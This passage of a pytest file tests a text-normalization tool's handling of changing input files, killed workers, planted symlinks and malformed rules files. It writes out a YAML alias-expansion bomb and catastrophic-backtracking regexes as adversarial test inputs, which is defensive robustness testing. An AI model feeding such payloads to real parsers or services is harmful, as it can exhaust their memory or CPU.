    monkeypatch.setattr(runner, "RACY_NS", -10**18)  # (an identity would be recorded if nothing had moved)
    options = runner.RunOptions(rules=RuleSet.load(), jobs=1, quiet=True, flagger=False)
    res = runner.run(inp, out, options)
    assert res.exit_code == 0
    errors = read_jsonl(out / "_normalize" / "errors.jsonl")
    assert [(e["file"], e["error"], e["failed"]) for e in errors] == [("a.txt", "changed", 0)]
    manifest = read_jsonl(out / "_normalize" / "manifest.jsonl")
    assert manifest[0]["sha256"] == hashlib.sha256(b"Old ,  text.").hexdigest()  # what was read
    monkeypatch.setattr(runner, "_open_unit", real_open)
    again = runner.run(inp, out, options)
    assert again.summary["units"]["done"] == 1
    assert (out / "a.txt").read_text(encoding="utf-8") == "Old, text. More, text."
    assert read_jsonl(out / "_normalize" / "errors.jsonl") == []


@pytest.mark.parametrize("step", [1, 3, 4096])
def test_an_input_that_reads_short_is_read_to_the_end(tmp_path, monkeypatch, step):
    """A worker reads a local input with plain ``os.read`` calls. A regular file on a local
    disk gives all that is asked up to its end in one call, but some filesystems (FUSE, some
    network mounts) give less: the input asks again until it has what it asked for or the
    file ends, and a buffered reader for lines starts where that left off."""
    from normalize import runner

    body = "Tenth ,  line of the “text”.\n".encode() * 200
    path = tmp_path / "a.txt"
    path.write_bytes(body)
    real_read = os.read
    monkeypatch.setattr(runner.os, "read", lambda fd, n: real_read(fd, min(n, step)))
    with runner.open_input(path) as fh:
        assert fh.st.st_size == len(body)
        assert fh.read(10) == body[:10]
        assert fh.read(len(body) + 1) == body[10:]  # one byte more than is left: the end
        assert fh.read(5) == b""
    with runner.open_input(path) as fh:
        assert fh.read(len(body) // 2) == body[: len(body) // 2]
        assert fh.file().readline() == body[len(body) // 2 :].split(b"\n")[0] + b"\n"
    assert fh.fd == -1  # closed (and closing again is harmless)
    fh.close()


def test_a_file_that_grows_after_it_is_opened_is_read_to_its_end(tmp_path, monkeypatch):
    """A worker asks for the bytes the file held when it opened it (plus one), not for the
    8 MiB limit: a file that grew in between is still read on to its end (or to the limit),
    so its output is made from all of it and too large a file is still refused."""
    from normalize import runner
    from normalize.rules import RuleSet

    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    (inp / "a.txt").write_text("Short ,  text.", encoding="utf-8")
    (inp / "b.txt").write_text("Tiny.", encoding="utf-8")
    real_open, real_stat = runner._open_unit, runner._opened_stat
    grow = {"a.txt": b" Then much more ,  text" * 50, "b.txt": b"x" * 3000}
    opened: list[str] = []

    def open_unit(in_dir, unit):
        opened.append(unit.rel)
        return real_open(in_dir, unit)

    def stat_then_grow(in_dir, fh):
        st = real_stat(in_dir, fh)
        with open(inp / opened[-1], "ab") as w:  # written to between the worker's fstat and its read
            w.write(grow[opened[-1]])
        return st

    monkeypatch.setattr(runner, "_open_unit", open_unit)
    monkeypatch.setattr(runner, "_opened_stat", stat_then_grow)
    options = runner.RunOptions(rules=RuleSet.load(), jobs=1, quiet=True, flagger=False, max_document_bytes=2048)
    res = runner.run(inp, out, options)
    assert res.exit_code == 1  # b.txt is now too large
    expected = "Short, text." + " Then much more, text" * 50
    assert (out / "a.txt").read_text(encoding="utf-8") == expected
    manifest = {m["file"]: m for m in read_jsonl(out / "_normalize" / "manifest.jsonl")}
    assert manifest["a.txt"]["sha256"] == hashlib.sha256((inp / "a.txt").read_bytes()).hexdigest()
    errors = read_jsonl(out / "_normalize" / "errors.jsonl")
    assert [(e["file"], e["error"]) for e in errors] == [("a.txt", "changed"), ("b.txt", "too-large"), ("b.txt", "changed")]
    assert "the file is 3005 bytes" in errors[1]["message"] and not (out / "b.txt").exists()


def test_a_big_jsonl_changed_between_chunks(tmp_path, monkeypatch):
    """Chunks of a big .jsonl are read by separate units: a change after the plan is noticed by
    the file's size and time, and the next run redoes the whole file."""
    from normalize import runner
    from normalize.rules import RuleSet

    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    rows = [json.dumps({"id": i, "text": f"Row {i} ,  here."}) for i in range(400)]
    (inp / "big.jsonl").write_text("\n".join(rows) + "\n")
    real_plan = runner.plan

    def plan_then_append(*args, **kw):
        yield from real_plan(*args, **kw)
        with open(inp / "big.jsonl", "a") as fh:
            fh.write(json.dumps({"text": "appended"}) + "\n")
        os.utime(inp / "big.jsonl", ns=(1, 1))

    monkeypatch.setattr(runner, "plan", plan_then_append)
    options = runner.RunOptions(rules=RuleSet.load(), jobs=1, quiet=True, flagger=False, chunk_bytes=4096)
    runner.run(inp, out, options)
    errors = read_jsonl(out / "_normalize" / "errors.jsonl")
    assert errors and {e["error"] for e in errors} == {"changed"}
    monkeypatch.setattr(runner, "plan", real_plan)
    again = runner.run(inp, out, options)
    assert again.summary["units"]["reused"] == 0
    assert read_jsonl(out / "_normalize" / "errors.jsonl") == []


KILLER = """
import os, signal, sys
from normalize import runner
from normalize.rules import RuleSet

real = runner.work

def work(spec, unit):  # the system kills the worker that cleans boom.txt (out of memory, say)
    if unit.rel == "boom.txt":
        os.kill(os.getpid(), signal.SIGKILL)
    return real(spec, unit)

work.__module__, work.__qualname__ = "normalize.runner", "work"  # pickled by name into the workers
runner.work = work
res = runner.run(sys.argv[1], sys.argv[2], runner.RunOptions(rules=RuleSet.load(), jobs=2, quiet=True, flagger=False))
print(res.exit_code)
"""


def test_a_worker_killed_by_the_system_does_not_hang_the_run(tmp_path):
    """The units in flight when a worker dies run again, each alone; the one that kills its
    worker again is reported as failed, and every other file is written."""
    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    for i in range(12):
        (inp / f"f{i:02d}.txt").write_text(f"Document {i} ,  fine.")
    (inp / "boom.txt").write_text("This one kills its worker.")
    r = subprocess.run([sys.executable, "-c", KILLER, str(inp), str(out)], cwd=ROOT, capture_output=True, timeout=180)
    assert r.returncode == 0 and r.stdout.split()[-1] == b"1", r.stderr.decode()[-2000:]
    errors = read_jsonl(out / "_normalize" / "errors.jsonl")
    assert [(e["file"], e["error"], e["failed"]) for e in errors] == [("boom.txt", "internal", 1)]
    assert "worker process died" in errors[0]["message"]
    assert all((out / f"f{i:02d}.txt").read_text() == f"Document {i}, fine." for i in range(12))
    summary = json.loads((out / "_normalize" / "summary.json").read_text())
    assert summary["documents"] == {"seen": 13, "written": 12, "failed": 1}


def test_links_planted_in_out_are_not_written_through(tmp_path):
    inp, out, elsewhere = tmp_path / "in", tmp_path / "out", tmp_path / "elsewhere"
    (inp / "sub").mkdir(parents=True)
    (inp / "sub" / "a.txt").write_text("NATO ,  the Alliance")
    (inp / "b.txt").write_text("NATO ,  the Alliance")
    (inp / "c.txt").write_text("NATO ,  the Alliance")
    elsewhere.mkdir()
    out.mkdir()
    (out / "sub").symlink_to(elsewhere)  # a folder of OUT that points elsewhere
    (out / "c.txt").symlink_to(elsewhere / "c.txt")  # an output file that is a link
    r = cli("run", inp, out, "-q", "--no-flagger")
    assert r.returncode == 1, r.stderr.decode()
    assert list(elsewhere.iterdir()) == []
    errors = read_jsonl(out / "_normalize" / "errors.jsonl")
    assert [(e["file"], e["error"]) for e in errors] == [("sub/a.txt", "output")]
    assert "symbolic link" in errors[0]["message"]
    assert (out / "b.txt").read_text() == "NATO, the Alliance"
    assert not (out / "c.txt").is_symlink() and (out / "c.txt").read_text() == "NATO, the Alliance"
    # OUT/_normalize itself a link: refused before anything is written
    out2 = tmp_path / "out2"
    out2.mkdir()
    (out2 / "_normalize").symlink_to(elsewhere)
    r = cli("run", inp, out2, "-q", "--no-flagger")
    assert r.returncode == 2 and b"symbolic link" in r.stderr
    assert list(elsewhere.iterdir()) == [] and sorted(p.name for p in out2.iterdir()) == ["_normalize"]


# -- bad rules ----------------------------------------------------------------------------------
def _rules_copy(tmp_path: Path) -> Path:
    rules = tmp_path / "rules"
    shutil.copytree(ROOT / "rules", rules)
    return rules


def _small_corpus(tmp_path: Path) -> Path:
    inp = tmp_path / "in"
    inp.mkdir()
    (inp / "a.txt").write_text("NATO ,  the Alliance")
    return inp


@pytest.mark.parametrize(("name", "content", "expect"), [
    ("tab.yaml", "entries:\n  - name: Tab Person\n\ttype: person\n", r"tab\.yaml:3: invalid YAML"),
    ("types.yaml", "entries:\n  - name: 123\n    type: person\n  - name: Listed Variants\n    type: person\n"
                   "    variants: Just A String\n", r"types\.yaml:\d+: "),
    ("list-entry.yaml", "entries:\n  - [Some Person, person]\n", r"list-entry\.yaml:2: an entry must be a mapping"),
    ("type-list.yaml", "entries:\n  - name: Typed\n    type: [person]\n", r"type-list\.yaml:2: 'Typed': type must be"),
    ("wrong-kinds.yaml", "entries:\n  - name: Never Str\n    type: person\n    never: just a string\n"
                         "  - name: Guard Int\n    type: person\n    context: {any: 5}\n"
                         "  - name: Calque Int\n    type: organisation\n    calques: [{text: The Thing, suggest: 42}]\n"
                         "protected: not a list\n",
     r"wrong-kinds\.yaml:1: protected: expected a list(?s:.*)wrong-kinds\.yaml:2: 'Never Str': never must be a list"
     r"(?s:.*)wrong-kinds\.yaml:7: 'Guard Int': context(?s:.*)wrong-kinds\.yaml:10: 'Calque Int': calque: suggest"),
    ("entries-mapping.yaml", "entries:\n  name: Not A List\n", r"entries-mapping\.yaml:\d+: "),
    ("top-list.yaml", "- name: Top Level List\n  type: person\n", r"top-list\.yaml:\d+: "),
    ("bad-utf8.yaml", b"entries:\n  - name: Caf\xe9\n    type: person\n", r"bad-utf8\.yaml:1: cannot read"),
    ("bomb.yaml", "a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                  "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                  "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]\n"
                  "g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f, *f]\nh: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g, *g]\n"
                  "entries: [*h]\n", r"bomb\.yaml:\d+: "),
])
def test_a_malformed_gazetteer_fails_with_file_and_line(tmp_path, name, content, expect):
    rules = _rules_copy(tmp_path)
    path = rules / "gazetteer" / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    t0 = time.perf_counter()
    check = cli("rules", "check", rules, timeout=120)
    assert check.returncode == 1 and re.search(expect, check.stdout.decode()), check.stdout.decode()[-2000:]
    out = tmp_path / "out"
    r = cli("run", _small_corpus(tmp_path), out, "--rules", rules, timeout=120)
    assert r.returncode == 2, r.stderr.decode()[-2000:]
    assert re.search(expect, r.stderr.decode()) and b"Traceback" not in r.stderr
    assert not out.exists(), "nothing is written"
    assert time.perf_counter() - t0 < 90


def test_wrong_types_in_debris_rules_are_errors_not_tracebacks(tmp_path):
    rules = _rules_copy(tmp_path)
    text = (rules / "debris.yaml").read_text().replace("max_items: 5", "max_items: lots", 1)
    (rules / "debris.yaml").write_text(text)
    out = tmp_path / "out"
    r = cli("run", _small_corpus(tmp_path), out, "--rules", rules)
    assert r.returncode == 2 and b"Traceback" not in r.stderr, r.stderr.decode()[-2000:]
    assert b"debris rules could not be checked: ValueError" in r.stderr
    assert not out.exists()


def test_a_catastrophic_pattern_is_stopped_and_reported(tmp_path):
    rules = _rules_copy(tmp_path)
    text = (rules / "debris.yaml").read_text()
    text = text.replace("lines:\n", "lines:\n  - id: evil-nested\n    pattern: '(a+)+$'\n"
                                    "  - id: evil-alternation\n    pattern: '(?:a|aa)+$'\n", 1)
    (rules / "debris.yaml").write_text(text)
    check = cli("rules", "check", rules)
    out_text = check.stdout.decode()
    assert check.returncode == 0, out_text  # a warning: every match is bounded in time anyway
    assert re.search(r"rules/debris\.yaml:\d+: warning: lines: rule 'evil-nested': nested unbounded", out_text)
    inp = tmp_path / "in"
    inp.mkdir()
    (inp / "adversarial.txt").write_text("Intro ,  line.\n" + "a" * 60 + "!\nEnd.\n")
    (inp / "fine.txt").write_text("NATO ,  the Alliance")
    out = tmp_path / "out"
    t0 = time.perf_counter()
    r = cli("run", inp, out, "--rules", rules, "-q", "--no-flagger", "--jobs", "1", timeout=120)
    assert time.perf_counter() - t0 < 60
    assert r.returncode == 1, r.stderr.decode()
    errors = read_jsonl(out / "_normalize" / "errors.jsonl")
    assert [(e["file"], e["error"]) for e in errors] == [("adversarial.txt", "rule-timeout")]
    assert re.search(r"rules/debris\.yaml:\d+ 'evil-alternation' took more than", errors[0]["message"])
    assert (out / "fine.txt").read_text() == "NATO, the Alliance"
    # a rule whose own example backtracks is a rules error (FILE:LINE), found before any run
    text = text.replace("pattern: '(?:a|aa)+$'\n", "pattern: '(?:a|aa)+$'\n    examples: ['" + "a" * 60 + "!']\n", 1)
    (rules / "debris.yaml").write_text(text)
    check = cli("rules", "check", rules)
    assert check.returncode == 1
    assert re.search(r"rules/debris\.yaml:\d+: rule .*'evil-alternation' took more than .* examples", check.stdout.decode())


@pytest.mark.parametrize("rel", ["debris.yaml", "gazetteer/people.yaml", "words/agencies.txt"])
def test_an_absurdly_large_rules_file_fails_at_once(tmp_path, rel):
    from normalize.rules import MAX_RULE_FILE_BYTES

    rules = _rules_copy(tmp_path)
    with open(rules / rel, "r+b") as fh:  # sparse: huge on paper, nothing to write
        fh.truncate(MAX_RULE_FILE_BYTES * 50)
    out = tmp_path / "out"
    t0 = time.perf_counter()
    r = cli("run", _small_corpus(tmp_path), out, "--rules", rules, timeout=120)
    assert time.perf_counter() - t0 < 30
    assert r.returncode == 2
    assert f"rules/{rel}:1: file is {MAX_RULE_FILE_BYTES * 50} bytes".encode() in r.stderr
    assert not out.exists()


def test_a_link_to_a_directory_inside_in_is_a_warning_and_the_run_succeeds(tmp_path):
    inp, out = tmp_path / "in", tmp_path / "out"
    (inp / "2024").mkdir(parents=True)
    (inp / "2024" / "a.txt").write_text("An article ,  here.\n", encoding="utf-8")
    (inp / "latest").symlink_to("2024")
    r = cli("run", inp, out)
    assert r.returncode == 0, r.stderr.decode()
    assert b"1 warning(s), nothing lost" in r.stderr
    assert read_jsonl(out / "_normalize" / "errors.jsonl") == [{
        "file": "latest/", "error": "skipped", "failed": 0,
        "message": "symbolic link to a directory; not followed (the files it points to are read under 2024/)"}]
    summary = json.loads((out / "_normalize" / "summary.json").read_text())
    assert summary["documents"] == {"seen": 1, "written": 1, "failed": 0}
    assert (out / "2024" / "a.txt").is_file() and not (out / "latest").exists()
